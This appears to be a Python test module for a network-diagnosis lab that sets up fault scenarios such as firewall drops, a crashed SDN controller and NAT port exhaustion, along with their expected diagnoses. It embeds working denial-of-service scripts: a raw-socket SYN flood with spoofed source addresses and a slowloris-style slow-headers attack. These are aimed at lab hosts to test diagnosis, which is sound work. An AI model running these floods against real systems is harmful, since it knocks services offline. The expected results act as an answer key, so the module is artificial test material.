"""NIKA's domains "service networking" and "management and orchestration plane", and what floods a service."""

from __future__ import annotations

from collections.abc import Mapping

from tests.lab.exams.nika.shared import NOT_CLEAR, SERVERS, Questions, everywhere, listening
from tests.lab.network import SERVER, STRANGER
from tests.lab.probe.scenario import Probe
from tests.lab.probe.scenarios.shared import AWAY
from tests.lab.scenario import CLEAR, Scenario, background, blocked, iptables, sh
from tests.lab.scenarios.containers import DROPPED_EARLY
from tests.lab.servers import flask, script

DROPS = blocked("firewall-drops")
ENOUGH = """
import socket, time
held = []
for _ in range(80):
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(("%s", 5000))
    held.append(s)
time.sleep(1)
print("ready", flush=True)
time.sleep(300)
"""
THREADED = script(
    """
import http.server


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"shop")


http.server.ThreadingHTTPServer(("0.0.0.0", 5000), Handler).serve_forever()
""",
    on="stranger",
    user=False,
)
SLOW_HEADERS = f"""
import socket, time
held = []
for _ in range(200):
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(("{SERVER}", 5000))
    held.append(s)
time.sleep(0.5)
print("ready", flush=True)
while True:
    for s in held:
        try:
            s.send(b"GET / HTTP/1.1\\r\\nX: ")
        except OSError:
            pass
    time.sleep(1)
"""
FLOOD = f"""
import random, socket, struct, time


def total(data):
    words = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    words = (words >> 16) + (words & 0xffff)
    return ~(words + (words >> 16)) & 0xffff


s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
to = socket.inet_aton("{SERVER}")
print("ready", flush=True)
while True:
    number = random.randrange(40)
    source = socket.inet_aton("10.99.0.%d" % (100 + number))
    tcp = struct.pack("!HHIIBBHHH", 10000 + number, 5000, random.getrandbits(32), 0, 0x50, 2, 8192, 0, 0)
    check = total(source + to + struct.pack("!HH", 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", check) + tcp[18:]
    s.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, to) + tcp, ("{SERVER}", 0))
    time.sleep(0.01)
"""

FAULTS: Mapping[str, Questions] = {
    "k8s_clusterip_routing_broken": (DROPPED_EARLY,),
    "snat_port_pool_exhaustion": (
        Probe(
            "nika-no-port-left-at-the-router",
            AWAY,
            blocked("connection-filtered"),
            "timeout",
            (THREADED,),
            (
                sh(
                    "nft 'table ip n { chain c { type nat hook postrouting priority 100;"
                    " oifname wan0 ip protocol tcp masquerade to :40000-40063; }; }'",
                    "gateway",
                ),
            ),
            after=(background(ENOUGH % STRANGER, "client"),),
            address=STRANGER,
            nmap=False,
        ),
    ),
    "k8s_worker_apiserver_partition": (
        Probe(
            "nika-cut-off-from-the-api-server",
            f"{SERVER} --port 6443",
            blocked("no-route-to-server"),
            "timeout",
            listening(6443),
            (sh("iptables-nft -w -t raw -A OUTPUT -p tcp --dport 6443 -j DROP", "client"),),
            port=6443,
            nmap=False,
        ),
        Scenario(
            "nika-api-server-cut-off",
            fault="a rule of the raw table drops the API server's port",
            before=(iptables("-t raw -A PREROUTING -p tcp --dport 6443 -j DROP"),),
            servers=listening(6443),
            port=6443,
            truth="timeout",
            expected=DROPS,
        ),
    ),
    "sdn_controller_crash": (
        Scenario(
            "nika-controller-crashed",
            fault="the controller's program has ended",
            port=6653,
            truth="refused",
            expected=blocked("nothing-listening"),
        ),
        Probe(
            "nika-controller-crashed-seen-from-the-client",
            f"{SERVER} --port 6653",
            blocked("connection-refused"),
            "refused",
            port=6653,
        ),
    ),
    "southbound_port_block": (
        Scenario(
            "nika-controller-blocked",
            fault="rules drop the controller's port, while its program listens",
            before=(everywhere("tcp dport 6653 drop;"),),
            servers=listening(6653),
            port=6653,
            truth="timeout",
            expected=DROPS,
            fixable=True,
        ),
    ),
    "southbound_port_mismatch": (
        Scenario(
            "nika-controller-on-another-port",
            fault="the controller listens on 6633, and the switches ask for 6653",
            servers=listening(6633),
            port=6653,
            truth="refused",
            expected=blocked("nothing-listening"),
        ),
    ),
    "tcp_syn_flood_attack": (
        Scenario(
            "nika-syn-flood",
            fault="nothing that stops a page: a hundred forged SYNs a second, of 40 flows",
            servers=SERVERS,
            after=(background(FLOOD, "neighbour"),),
            truth="served",
            expected=CLEAR,
        ),
    ),
    "web_dos_attack": (
        Scenario(
            "nika-slow-headers",
            fault="a server that serves one at a time is held by clients that never end their request",
            servers=(flask("--host 0.0.0.0 --without-threads"),),
            after=(background(SLOW_HEADERS, "neighbour"),),
            truth="silent|timeout",
            expected=NOT_CLEAR,
        ),
    ),
}
